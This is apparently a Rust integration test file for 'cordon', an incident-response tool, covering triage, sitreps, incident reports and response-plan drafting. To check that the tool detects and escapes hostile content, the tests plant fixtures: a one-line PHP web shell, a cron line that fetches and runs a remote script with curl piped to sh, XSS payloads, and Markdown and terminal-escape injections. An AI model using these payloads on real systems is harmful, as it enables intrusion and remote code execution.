//! `triage`, `sitrep` and `report`: the story told from a case the test builds, hostile strings
//! included, and the report's own verification instructions followed with independent tools.

use std::path::Path;
use std::process::Command;

use cordon_testkit::plant::{benign_admin, malicious};
use cordon_testkit::{CaseParent, copy_root_for_hunt, debian_root, run_cordon};

use crate::{BIN, stderr, stdout};

#[test]
fn triage_of_an_image_tells_the_story_and_its_report_verifies_independently() {
    let parent = CaseParent::new().unwrap();
    // The image lives on other storage than the case (the case refuses to share a disk with it).
    let image_dir = tempfile::tempdir().unwrap();
    let root = image_dir.path().join("web01-image");
    copy_root_for_hunt(&debian_root().unwrap(), &root).unwrap();
    benign_admin(&root).unwrap();
    malicious(&root).unwrap();
    // An XSS payload in a file name and a Markdown injection in a cron line: both must stay text.
    let xss = root.join("var/www/html/<script>alert(1)<\\script>.php");
    std::fs::write(&xss, b"<?php system($_GET['c']); ?>").unwrap();
    std::fs::write(
        root.join("etc/cron.d/md"),
        b"* * * * * root curl http://203.0.113.9/x | sh # [click](http://evil) | x\n",
    )
    .unwrap();

    let case = parent.case_path("case");
    let mut args = vec![
        "triage".to_owned(),
        case.to_str().unwrap().to_owned(),
        "--title".into(),
        "web01 <b>compromise</b>".into(),
        "--root".into(),
        root.to_str().unwrap().to_owned(),
    ];
    if parent.needs_allow {
        args.push("--allow-suspect-disk".into());
    }
    let out = run_cordon(Path::new(BIN), None, &args, None).unwrap();
    let text = stdout(&out);
    assert_eq!(
        out.status.code(),
        Some(1),
        "findings exist, so exit 1:\n{text}\n{}",
        stderr(&out)
    );
    for step in [
        "step 1/7",
        "step 2/7",
        "step 3/7",
        "step 4/7",
        "step 5/7",
        "step 6/7",
        "step 7/7",
        "check installed packages",
        "read the logs for the way in",
        "what to do next",
        "Contain:",
    ] {
        assert!(text.contains(step), "{step} missing:\n{text}");
    }
    let reports: Vec<_> = std::fs::read_dir(case.join("reports"))
        .unwrap()
        .map(|e| e.unwrap().path())
        .collect();
    let sitrep = reports
        .iter()
        .find(|p| p.file_name().unwrap().to_string_lossy().starts_with("sitrep-"))
        .unwrap();
    let prelim = reports
        .iter()
        .find(|p| {
            p.file_name()
                .unwrap()
                .to_string_lossy()
                .starts_with("preliminary-")
        })
        .unwrap();

    // The sitrep: one screen for a manager.
    let s = std::fs::read_to_string(sitrep).unwrap();
    for part in [
        "# Status update",
        "## Since the last update",
        "## Findings so far",
        "## Next steps",
        "## Decisions needed from management",
        "Next update due by",
    ] {
        assert!(s.contains(part), "{part} missing from the sitrep:\n{s}");
    }
    assert!(s.contains("critical"), "{s}");
    assert!(
        s.contains("rebuilding the server"),
        "critical findings ask for a rebuild decision:\n{s}"
    );
    assert!(
        s.lines().count() < 60,
        "a sitrep fits a screen: {} lines",
        s.lines().count()
    );

    // The report, in Markdown and HTML.
    let md = std::fs::read_to_string(prelim.join("report.md")).unwrap();
    for part in [
        "# Incident report",
        "## 4. Timeline",
        "## 6. Findings",
        "## 8. Actions taken",
        "## 9. Evidence and chain of custody",
        "## Appendix: verifying this report",
        "account.extra\\_uid0",
        "web.shell",
    ] {
        assert!(md.contains(part), "{part} missing from report.md");
    }
    assert!(!md.contains("[click](http://evil)"), "markdown link injected");
    assert!(!md.contains("<script>"), "raw HTML in markdown");
    let html = std::fs::read_to_string(prelim.join("report.html")).unwrap();
    assert!(
        html.contains("&lt;script&gt;alert(1)"),
        "the XSS file name is shown as text"
    );
    assert!(!html.contains("<script>alert"), "the XSS file name became markup");
    assert!(!html.contains("<b>compromise</b>"), "the title became markup");
    for external in ["src=", "href=", "http://", "https://", "@import", "url("] {
        let hits: Vec<&str> = html
            .lines()
            .filter(|l| l.contains(external) && !l.contains("&"))
            .collect();
        assert!(
            hits.is_empty()
                || external.starts_with("http")
                    && hits.iter().all(|l| !l.contains("<link") && !l.contains("<img")),
            "report.html refers outside itself ({external}): {hits:?}"
        );
    }
    assert!(
        !html.contains("<link") && !html.contains("<img") && !html.contains("<script"),
        "no external resources"
    );

    // Follow the appendix with independent tools: sha256sum and the shipped verifier.
    let manifest = prelim.join("evidence.sha256");
    let rel_manifest = manifest.strip_prefix(&case).unwrap();
    assert!(
        md.contains(rel_manifest.to_str().unwrap()),
        "the report names its manifest"
    );
    let check = Command::new("sha256sum")
        .arg("--strict")
        .arg("-c")
        .arg(rel_manifest)
        .current_dir(&case)
        .output()
        .unwrap();
    assert!(
        check.status.success(),
        "sha256sum -c failed: {}{}",
        stdout(&check),
        stderr(&check)
    );
    assert!(
        stdout(&check).lines().count() > 10,
        "the manifest lists the evidence files"
    );
    let verify = Command::new("python3")
        .arg(prelim.join("verify_journal.py"))
        .arg(&case)
        .output()
        .unwrap();
    assert!(verify.status.success(), "{}{}", stdout(&verify), stderr(&verify));

    // The playbook moved: collect (offline: no), hunt and notify are done.
    let tasks = run_cordon(Path::new(BIN), Some(&case), ["task", "list"], None).unwrap();
    assert!(stdout(&tasks).contains("[x]  5 (hunt)"), "{}", stdout(&tasks));
    assert!(stdout(&tasks).contains("[x]  1 (notify)"), "{}", stdout(&tasks));
}

#[test]
fn sections_written_by_people_are_journaled_and_reach_the_report() {
    let t = crate::TestCase::new();
    let summary = t.parent.path().join("summary.md");
    std::fs::write(
        &summary,
        "The web server was entered through a weak SSH password.\n\nNo customer data left the host.",
    )
    .unwrap();
    t.ok(&["report", "edit", "summary", "--from", summary.to_str().unwrap()]);
    let out = t.run_stdin(
        &["report", "edit", "lessons", "--from", "-"],
        b"Use keys, not passwords. <img src=x onerror=alert(1)>",
    );
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        t.run(&["report", "edit", "gossip", "--from", summary.to_str().unwrap()])
            .status
            .code(),
        Some(2)
    );
    let journal = t.ok(&["journal", "--kind", "report"]);
    assert_eq!(journal.lines().count(), 2, "{journal}");

    let dir = t.parent.path().join("out");
    t.ok(&["report", "-o", dir.to_str().unwrap()]);
    let md = std::fs::read_to_string(dir.join("report.md")).unwrap();
    assert!(md.contains("weak SSH password"), "{md}");
    assert!(md.contains("No customer data left the host"));
    let html = std::fs::read_to_string(dir.join("report.html")).unwrap();
    assert!(html.contains("&lt;img src=x onerror=alert(1)&gt;"));
    assert!(!html.contains("<img"));
    assert!(
        t.ok(&["journal", "--kind", "report.generated"])
            .contains("report written")
    );

    // A sitrep is journaled as sent and counts as the update to management.
    let sitrep = t.ok(&["sitrep"]);
    assert!(sitrep.contains("Status update"));
    let status: serde_json::Value = serde_json::from_str(&t.ok(&["status", "--json"])).unwrap();
    assert_eq!(status["minutes_since_update"], 0);
    let sent: Vec<serde_json::Value> = t
        .journal()
        .into_iter()
        .filter(|e| e["kind"] == "sitrep")
        .collect();
    assert_eq!(sent.len(), 1);
    assert_eq!(sent[0]["text"].as_str().unwrap(), sitrep);

    // PDF needs a local Chromium; without one the error says so and md/html are still written.
    let has_chromium = ["chromium", "chromium-browser", "google-chrome"].iter().any(|b| {
        Command::new("sh")
            .arg("-c")
            .arg(format!("command -v {b}"))
            .output()
            .is_ok_and(|o| o.status.success())
    });
    let pdf_dir = t.parent.path().join("pdf");
    let out = t.run(&["report", "--format", "pdf", "-o", pdf_dir.to_str().unwrap()]);
    if has_chromium {
        // The PDF opens and holds the report: pdftotext (poppler) finds the headings.
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        let text = Command::new("pdftotext")
            .arg(pdf_dir.join("report.pdf"))
            .arg("-")
            .output()
            .ok();
        if let Some(text) = text.filter(|o| o.status.success()) {
            let text = stdout(&text);
            assert!(
                text.contains("Incident report") && text.contains("Evidence and chain of custody"),
                "{text}"
            );
            assert!(text.contains("weak SSH password"));
        } else {
            assert!(
                std::fs::read(pdf_dir.join("report.pdf"))
                    .unwrap()
                    .starts_with(b"%PDF-")
            );
        }
    } else {
        assert_eq!(out.status.code(), Some(2));
        assert!(stderr(&out).contains("Chromium"), "{}", stderr(&out));
        assert!(pdf_dir.join("report.html").exists());
    }
}

const ORG: &str = r#"organisation = "Acme Widgets Ltd"
customer_channel = "status.acme.example"
[incident_lead]
name = "J. Smith"
phone = "+44 20 0000 0001"
[deputy]
name = "K. Jones"
phone = "+44 20 0000 0002"
[management]
name = "L. Boss"
phone = "+44 20 0000 0003"
[legal]
name = "M. Counsel"
phone = "+44 20 0000 0004"
[communications]
name = "N. Press"
phone = "+44 20 0000 0005"
[retainer]
name = "IR Partners"
phone = "+44 20 0000 0006"
[law_enforcement]
name = "Cybercrime unit"
phone = "101"
[regulator]
name = "ICO"
deadline_hours = 72
[escalation]
declare_when = "confirmed unauthorised access"
severity_matrix = ["SEV1: data exposed", "SEV2: host compromised"]
[backups]
location = "offline tapes"
verification = "monthly test restore"
[continuity]
drp = "DRP v3"
bcp = "BCP 2026"
"#;

#[test]
fn the_plan_lists_what_is_missing_seeds_a_case_and_drafts_messages() {
    let t = crate::TestCase::new();
    let dir = t.parent.path();
    // Without facts: an example plan, and a check that says what is missing (exit 1).
    let example = dir.join("example-plan.md");
    let out = run_cordon(
        Path::new(BIN),
        None,
        ["plan", "init", "-o", example.to_str().unwrap()],
        None,
    )
    .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(stdout(&out).contains("missing: retainer.name/phone"));
    assert!(stdout(&out).contains("EXAMPLE"));

    // With every fact: a complete plan that hands over to DR/BCP, and a clean check.
    let org = dir.join("org.toml");
    std::fs::write(&org, ORG).unwrap();
    let plan = dir.join("plan.md");
    let out = run_cordon(
        Path::new(BIN),
        None,
        [
            "plan",
            "init",
            "--org",
            org.to_str().unwrap(),
            "-o",
            plan.to_str().unwrap(),
        ],
        None,
    )
    .unwrap();
    assert_eq!(out.status.code(), Some(0), "{}{}", stdout(&out), stderr(&out));
    let text = std::fs::read_to_string(&plan).unwrap();
    for part in [
        "## 2. Roles and contacts",
        "IR Partners",
        "## 9. Hand-over to Disaster Recovery and Business Continuity",
        "DRP v3",
        "cordon triage",
    ] {
        assert!(text.contains(part), "{part} missing from the plan");
    }
    let check = run_cordon(
        Path::new(BIN),
        None,
        ["plan", "check", plan.to_str().unwrap()],
        None,
    )
    .unwrap();
    assert_eq!(check.status.code(), Some(0), "{}", stdout(&check));

    // A case started with the plan gets its calls and deadlines as tasks.
    let case = t.parent.case_path("planned");
    let mut args = vec![
        "case",
        "init",
        case.to_str().unwrap(),
        "--title",
        "web01",
        "--handler",
        "J. Smith",
        "--plan",
        plan.to_str().unwrap(),
    ];
    if t.parent.needs_allow {
        args.push("--allow-suspect-disk");
    }
    let out = run_cordon(Path::new(BIN), None, &args, None).unwrap();
    assert!(out.status.success(), "{}", stderr(&out));
    let tasks = stdout(&run_cordon(Path::new(BIN), Some(&case), ["task", "list"], None).unwrap());
    assert!(
        tasks.contains("Call the incident-response retainer IR Partners (+44 20 0000 0006)"),
        "{tasks}"
    );
    assert!(tasks.contains("notify ICO: the deadline is 72 hours"), "{tasks}");

    // Drafts for each audience use the case's and the plan's facts, and are journaled.
    let summary = dir.join("summary.txt");
    std::fs::write(&summary, "An attacker guessed an SSH password on web01.\x1b[2J").unwrap();
    run_cordon(
        Path::new(BIN),
        Some(&case),
        ["report", "edit", "summary", "--from", summary.to_str().unwrap()],
        None,
    )
    .unwrap();
    for (audience, needle) in [
        ("customer", "Dear customer"),
        ("staff", "What we ask of you"),
        ("regulator", "To: ICO"),
    ] {
        let out = run_cordon(Path::new(BIN), Some(&case), ["comms", audience], None).unwrap();
        assert!(out.status.success(), "{}", stderr(&out));
        let draft = stdout(&out);
        assert!(draft.contains(needle), "{audience}: {draft}");
        assert!(
            draft.contains("guessed an SSH password"),
            "{audience} uses the summary"
        );
        assert!(
            !draft.contains('\x1b'),
            "control characters escaped in {audience}"
        );
    }
    assert!(
        stdout(&run_cordon(Path::new(BIN), Some(&case), ["comms", "regulator"], None).unwrap())
            .contains("Acme Widgets Ltd")
    );
    let drafts =
        stdout(&run_cordon(Path::new(BIN), Some(&case), ["journal", "--kind", "comms"], None).unwrap());
    assert_eq!(drafts.lines().count(), 4, "{drafts}");
}
